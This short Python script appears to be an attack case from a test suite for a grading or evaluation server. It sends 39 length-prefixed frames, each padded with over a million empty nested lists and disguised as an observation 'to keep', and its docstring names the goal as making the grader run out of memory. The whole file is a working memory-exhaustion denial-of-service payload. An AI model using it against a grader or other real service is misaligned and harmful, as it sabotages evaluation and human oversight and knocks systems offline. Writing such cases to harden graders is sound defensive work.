"""Sends frames with two million empty lists each, as answers to keep.

Success: the grader runs out of memory.
Runs: alone
"""

items = b"[" + b",".join([b"[]"] * 1_300_000) + b"]"
start = (
    b'{"!":"dict","items":[["kind","observation"],["exercise","derivative"],["step",%d],["value",'
)
for step in range(1, 40):
    header = start % step + items + b"]]}"
    send(struct.pack(">IQ", len(header), 0) + header)
